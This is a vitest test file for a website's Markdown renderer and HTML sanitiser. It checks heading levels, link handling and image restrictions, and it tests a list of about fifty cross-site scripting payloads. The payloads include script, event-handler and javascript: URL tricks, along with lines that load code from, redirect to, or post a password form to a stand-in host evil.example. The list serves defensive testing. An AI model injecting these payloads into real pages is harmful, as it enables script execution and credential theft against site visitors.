import { describe, expect, it } from 'vitest'
import { markdownRenderer } from './markdown.ts'
import { sanitized } from './sanitize.ts'

const SITE = 'https://gorod.example'
const render = markdownRenderer(() => SITE)

describe('the text of an editor', () => {
  it('becomes paragraphs, lists, quotes, tables and code', () => {
    const html = render(
      '# Часть\n\nСлово **важное** и *тихое*, `код`.\n\n- раз\n- два\n\n3. три\n\n> цитата\n\n| а | б |\n|---|---|\n| 1 | 2 |\n\n```js\na < b\n```\n',
    )
    expect(html).toContain('<h2>Часть</h2>')
    expect(html).toContain('<strong>важное</strong> и <em>тихое</em>, <code>код</code>')
    expect(html).toContain('<li>раз</li>')
    expect(html).toContain('<ol start="3">')
    expect(html).toContain('<blockquote>')
    expect(html).toContain('<div role="region" aria-label="Таблица" tabindex="0"><table>')
    expect(html).toContain('<td>2</td>')
    expect(html).toContain('<pre tabindex="0"><code>a &lt; b\n</code></pre>')
  })

  it.each([
    ['# один\n\n## два\n\n### три', ['h2', 'h3', 'h4']],
    ['## два\n\n### три\n\n## ещё', ['h2', 'h3', 'h2']],
    ['#### четыре', ['h2']],
    ['# 1\n\n###### 6', ['h2', 'h6']],
  ])('keeps the page one h1: %j', (markdown, tags) => {
    expect([...render(markdown).matchAll(/<(h\d)>/g)].map(([, tag]) => tag)).toEqual(tags)
  })

  it('links within the site plainly and to others without lending our name', () => {
    expect(render('[урок](/academy/a)')).toContain('<a href="/academy/a">урок</a>')
    expect(render(`[мы](${SITE}/blog)`)).not.toContain('rel=')
    expect(render('[письмо](mailto:a@example.org)')).toContain('href="mailto:a@example.org"')
    for (const foreign of ['https://other.example/', 'http://gorod.example/']) {
      expect(render(`[там](<${foreign}>)`), foreign).toContain('rel="noopener nofollow"')
    }
    // Addresses that a browser reads as another site.
    expect(sanitized(String.raw`<a href="/\other.example">x</a>`, SITE)).toContain('rel=')
    expect(render('Смотрите https://other.example/a')).toContain('<a href="https://other.example/a" rel=')
    expect(render('т.д.ru и README.md')).not.toContain('<a')
  })

  it('shows pictures of this site only', () => {
    expect(render('![дверь](/bundle/images/door.svg)')).toContain(
      '<img src="/bundle/images/door.svg" alt="дверь" loading="lazy" />',
    )
    expect(render('![я](/images/avatar/1.webp "Я")')).toContain('title="Я"')
    for (const other of [
      'https://other.example/a.png',
      '//other.example/a.png',
      '/registration/logout',
      '/images/../registration/logout',
      '/images/%2e%2e/registration/logout',
      'data:image/png;base64,AAAA',
      'a.png',
    ]) {
      expect(render(`![x](<${other}>)`), other).not.toContain('<img')
    }
  })
})

/** Tricks to get a script past a Markdown parser or a sanitiser. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/images/a.png" onload="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>a</text></a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src=x>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<form action="https://evil.example/"><input name=password><button>x</button></form>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<div id="root" class="x" tabindex="5" onclick="alert(1)">x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><a xmlns:a="http://www.w3.org/1999/xhtml"><a:body onload="alert(1)"/></a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](<javascript:alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](/images/a.png)',
  '[x](/a "t\\" onmouseover=\\"alert(1)")',
  '`<script>alert(1)</script>`',
  '```"><script>alert(1)</script>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| x |',
]

/** Tags and attributes a browser would find, by its own reading of quotes. */
function parts(html: string): { readonly tag: string; readonly attributes: string }[] {
  return [...html.matchAll(/<(\w[\w:-]*)((?:"[^"]*"|'[^']*'|[^>"'])*)>/g)].map(([, tag = '', rest = '']) => ({
    tag: tag.toLowerCase(),
    attributes: rest,
  }))
}

const HARMLESS_TAG =
  /^(p|br|hr|strong|em|s|code|pre|blockquote|ul|ol|li|h[2-6]|div|table|thead|tbody|tr|th|td|a|img)$/
const HARMLESS_ATTRIBUTES =
  /^(\s+(href="(\/(?!\/)|https?:|mailto:|#)[^"]*"|rel="noopener nofollow"|title="[^"]*"|src="\/(images|bundle\/images)\/[^"]*"|alt="[^"]*"|loading="lazy"|start="\d+"|tabindex="0"|role="region"|aria-label="[^"]*"))*\s*\/?$/

function expectHarmless(html: string): void {
  for (const { tag, attributes } of parts(html)) {
    expect(tag, html).toMatch(HARMLESS_TAG)
    expect(attributes, html).toMatch(HARMLESS_ATTRIBUTES)
  }
  expect(html).not.toMatch(/<!--|<!\[|<\?/)
}

describe('markup that would harm a reader', () => {
  it.each(ATTACKS)('the parser stops %s', (attack) => {
    expectHarmless(render(attack))
    expectHarmless(render(`Текст ${attack} ещё\n\n> ${attack}\n\n- ${attack}`))
  })

  it.each(ATTACKS)('the sanitiser alone stops %s', (attack) => {
    const once = sanitized(attack, SITE)
    expectHarmless(once)
    // A browser that reads it again finds nothing new: what is clean stays as it is.
    const again = sanitized(once, SITE)
    expectHarmless(again)
    expect(sanitized(again, SITE)).toBe(again)
  })
})
